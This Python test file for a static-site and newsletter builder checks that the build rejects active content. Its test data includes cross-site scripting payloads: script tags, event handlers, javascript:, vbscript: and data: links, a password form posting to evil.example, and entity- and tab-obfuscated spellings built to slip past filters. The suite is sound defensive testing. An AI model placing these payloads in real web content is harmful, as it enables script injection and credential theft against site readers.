"""Issue 11, item 3: one content policy for every channel.

Active content in a page body, a newsletter body or an SVG/HTML file under docs/ is an error that stops the
build (`protectpress build`, strict or not), naming the file and the line, so that the site, the feeds, the
email and the newsletter's web version never publish it. An `image:` must be `https:` or a path on the site,
and the email's plain-text part never lists a script, data or file address.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from protectpress.core.foundation.config import load_settings
from protectpress.core.judge.sanitise import find_active_content
from protectpress.core.newsletter.markdown import parse_markdown
from protectpress.core.newsletter.text import markdown_text
from support import FIXTURES, copy_project, run_in_process

ACTIVE = ("expected no active content (scripts, frames, forms, event handlers, javascript: or data: addresses): "
          "the site, feeds and emails publish only text, links, images and tables")
DOCUMENT = ("expected a file that runs no script when opened (no <script>, <foreignObject>, event handlers or "
            "javascript: addresses)")

PAGE_HEAD = """---
title: A page someone pasted active content into
type: guidance
summary: Every kind of active content, one per paragraph.
date: 2024-01-20
---

Safe opening paragraph.
"""
# (Markdown, what the build must say it found), one paragraph each, in order.
HOSTILE_BODY = [
    ("<script>window.__pwned = 1</script>", ["a <script> element"]),
    ('<iframe src="https://evil.example/frame"></iframe>', ["an <iframe> element"]),
    ('<p onmouseover="steal()">Hover here.</p>', ["an event handler onmouseover= on <p>"]),
    ("A [Markdown link](javascript:alert(1)) to a script.", ["a javascript: URL in href= on <a>"]),
    ('<a href="data:text/html;base64,PHNjcmlwdD4=">A data link</a>', ["a data: URL in href= on <a>"]),
    ('<a href="vbscript:msgbox(1)">A vbscript link</a>', ["a vbscript: URL in href= on <a>"]),
    ('<object data="movie.swf"></object>', ["an <object> element"]),
    ('<embed src="movie.swf">', ["an <embed> element"]),
    ('<form action="https://evil.example/collect"><input name="password"></form>', ["a <form> element"]),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', ["a <meta> element"]),
    ("<svg><script>window.__pwned = 2</script></svg>", ["a <script> element"]),
    ('<svg><a href="#x"><animate attributeName="href" to="javascript:alert(2)"/><text>Tap</text></a></svg>',
     ["a javascript: URL in to= on <animate>"]),
    # Harmless markup the sanitiser drops from feeds but that runs nothing: not an error on the site.
    ('<svg viewBox="0 0 4 4"><path d="M0 0h4v4z"/></svg> <input type="checkbox" disabled>', []),
    # A page's own styles are refused since issue 28 (they can fetch from a third party or hide the page; the
    # site's Content-Security-Policy allows only the theme's stylesheets).
    ("<style>p {}</style>", ["a <style> element (the site's styles come only from its theme)"]),
    # The build names the line the handler is on: the attribute list's own line.
    ('A paragraph with an attribute list.\n{: onclick="steal()" }', ["an event handler onclick= on <p>"]),
]


def errors_for(output: str, path: str) -> list[str]:
    return [line.strip() for line in output.splitlines() if line.strip().startswith(f"error: {path}")]


@pytest.fixture
def project(tmp_path) -> Path:
    return copy_project(FIXTURES / "newsletter-basic", tmp_path / "project")


def test_active_content_in_a_page_body_stops_the_build_naming_each_line(project):
    body, expected, line = PAGE_HEAD + "\n", [], PAGE_HEAD.count("\n") + 2
    for markdown, found in HOSTILE_BODY:
        body += markdown + "\n\n"
        at = line + markdown.count("\n")  # each case's active part is on its last line
        expected += [f"error: docs/guidance/active.md:{at}: {ACTIVE}, found {what}" for what in found]
        if 'href="#x"' in markdown:
            # A build goes on past these errors to check every link too, so one run lists every problem.
            expected.append(f"error: docs/guidance/active.md:{at}: expected a link to a heading or id that exists "
                            "on guidance/active/, found '#x'")
        line += markdown.count("\n") + 2
    (project / "docs/guidance/active.md").write_text(body, encoding="utf-8")
    result = run_in_process("build", cwd=project)  # not --strict: these are errors, not warnings
    assert result.returncode == 1
    assert sorted(errors_for(result.stderr, "docs/guidance/active.md")) == sorted(expected)
    assert "Traceback" not in result.stderr
    assert not (project / "site").exists()
    check = run_in_process("check", cwd=project)  # check judges the same rendered bodies as the build
    assert check.returncode == 1
    assert sorted(errors_for(check.stdout, "docs/guidance/active.md")) == sorted(expected)


def test_active_content_in_a_newsletter_body_stops_the_build(project):
    newsletter = project / "newsletters/2024-01-winter-update.md"
    text = newsletter.read_text(encoding="utf-8")
    lines = text.count("\n")
    newsletter.write_text(text + '\n<script>window.__pwned = 3</script>\n\nA [link](javascript:alert(1)).\n',
                          encoding="utf-8")
    result = run_in_process("build", cwd=project)
    assert result.returncode == 1
    assert errors_for(result.stderr, "newsletters/2024-01-winter-update.md") == [
        f"error: newsletters/2024-01-winter-update.md:{lines + 2}: {ACTIVE}, found a <script> element",
        f"error: newsletters/2024-01-winter-update.md:{lines + 4}: {ACTIVE}, found a javascript: URL in href= on <a>",
    ]
    assert not (project / "site").exists()


def test_a_featured_page_with_active_content_is_named_once_at_its_own_line(project):
    card = project / "docs/action-cards/run-hide-tell.md"  # featured in full in the newsletter
    text = card.read_text(encoding="utf-8")
    card.write_text(text + '\n<p onclick="steal()">Tap.</p>\n', encoding="utf-8")
    expected = [f"error: docs/action-cards/run-hide-tell.md:{text.count(chr(10)) + 2}: {ACTIVE}, found an event "
                "handler onclick= on <p>"]
    result = run_in_process("check", cwd=project)  # judges the page, and the newsletter featuring it: once
    assert result.returncode == 1
    assert errors_for(result.stdout, "docs/action-cards/run-hide-tell.md") == expected
    result = run_in_process("build", cwd=project)  # stops at the newsletter, before the page is built
    assert result.returncode == 1
    assert errors_for(result.stderr, "docs/action-cards/run-hide-tell.md") == expected


def test_an_svg_or_html_file_that_runs_script_stops_the_build(project):
    assets = project / "docs/assets"
    (assets / "evil.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="steal()">\n'
        '  <script>window.__pwned = 4</script>\n'
        '  <foreignObject><iframe src="https://evil.example/"></iframe></foreignObject>\n'
        '  <a href="javascript:alert(1)"><text>x</text></a>\n'
        '  <animate attributeName="href" to="javascript:alert(2)"/>\n'
        "</svg>\n", encoding="utf-8")
    # A drawing with an embedded bitmap is harmless and must pass.
    (assets / "fine.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg"><rect width="4" height="4"/>'
        '<image href="data:image/png;base64,iVBORw0KGgo="/></svg>\n', encoding="utf-8")
    (assets / "redirect.html").write_text('<meta http-equiv="refresh" content="0;url=https://evil.example/">\n',
                                          encoding="utf-8")
    (assets / "data.xml").write_text('<feed><x:script xmlns:x="http://www.w3.org/1999/xhtml">steal()</x:script></feed>\n',
                                     encoding="utf-8")
    result = run_in_process("build", cwd=project)
    assert result.returncode == 1
    assert errors_for(result.stderr, "docs/assets/") == [
        f"error: docs/assets/data.xml:1: {DOCUMENT}, found a <script> element",
        f"error: docs/assets/evil.svg:1: {DOCUMENT}, found an event handler onload= on <svg>",
        f"error: docs/assets/evil.svg:2: {DOCUMENT}, found a <script> element",
        f"error: docs/assets/evil.svg:3: {DOCUMENT}, found a <foreignobject> element",
        f"error: docs/assets/evil.svg:3: {DOCUMENT}, found an <iframe> element",
        f"error: docs/assets/evil.svg:4: {DOCUMENT}, found a javascript: URL in href= on <a>",
        f"error: docs/assets/evil.svg:5: {DOCUMENT}, found a javascript: URL in to= on <animate>",
        f"error: docs/assets/redirect.html:1: {DOCUMENT}, found a <meta> refresh that sends the reader elsewhere",
    ]
    assert not (project / "site").exists()


BAD_IMAGES = ["javascript:alert(1)", "data:image/png;base64,iVBORw0KGgo=", "http://cdn.example/x.png",
              "//evil.example/x.png", "file:///etc/passwd", "java\tscript:alert(1)", "\\\\evil.example\\x.png"]


def test_an_image_that_is_not_https_or_a_site_path_is_an_error(project):
    for number, image in enumerate(BAD_IMAGES):
        (project / f"docs/guidance/image-{number}.md").write_text(_with_image(number, image), encoding="utf-8")
    result = run_in_process("check", cwd=project)
    assert result.returncode == 1
    for number, image in enumerate(BAD_IMAGES):
        assert (f"error: docs/guidance/image-{number}.md:6: image: expected an image address starting https:// or a "
                f"path on this site like /assets/photo.png, found {image!r}") in result.stdout.splitlines(), image


def _with_image(number: int, image: str) -> str:
    """A valid page but for its image, written as a YAML double-quoted string (tab and backslash escaped)."""
    quoted = '"' + image.replace("\\", "\\\\").replace("\t", "\\t") + '"'
    return (f"---\ntitle: Image page {number}\ntype: guidance\nsummary: A page with an image.\ndate: 2024-01-20\n"
            f"image: {quoted}\nimage_alt: A picture\n---\n\nText.\n")


def test_the_plain_text_part_never_lists_a_script_data_or_file_address(project):
    settings = load_settings(project / "mkdocs.yml")
    markdown = (
        "Read [the script](javascript:alert(1)), [the data](data:text/html,hi), [the file](file:///etc/passwd), "
        "[the shout](JavaScript&#58;alert(2)) and [the guidance](https://www.gov.uk/guidance)."
    )
    text = markdown_text(parse_markdown(markdown, links=settings.links, from_src="index.md"))
    listed = [line.split(" ", 1)[1] for line in text.splitlines() if line.startswith("[")]
    # The entity-spelled one is no scheme to Markdown: it becomes an address on the site, which cannot run.
    assert listed == ["https://news.example.org/JavaScript&#58;alert(2)", "https://www.gov.uk/guidance"], text
    for scheme in ("javascript:", "data:", "file:"):
        assert scheme not in text.lower(), text
    assert "Read the script, the data, the file," in text  # the words stay; only the address goes


@pytest.mark.parametrize("href", [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)",
    "javascript&#58;alert(1)", "javascript&#x3A;alert(1)", "javascript&colon;alert(1)", "java&#9;script&colon;x",
    "&#106;avascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "vbscript&colon;msgbox",
])
def test_a_script_address_is_found_however_it_is_spelled(href):
    """The judge reads attribute values as a browser does (entities decoded, whitespace and control characters
    in the scheme ignored): a colon written as an entity is still a colon."""
    found = find_active_content(f'<p><a href="{href}">x</a><img src="{href}" alt=""></p>')
    assert len(found) == 2 and all(" URL in " in item.description for item in found), (href, found)


def test_an_ordinary_address_is_not_active_content():
    assert find_active_content('<p><a href="../guidance/pals/#what-to-do" title="a: b">x</a></p>') == []
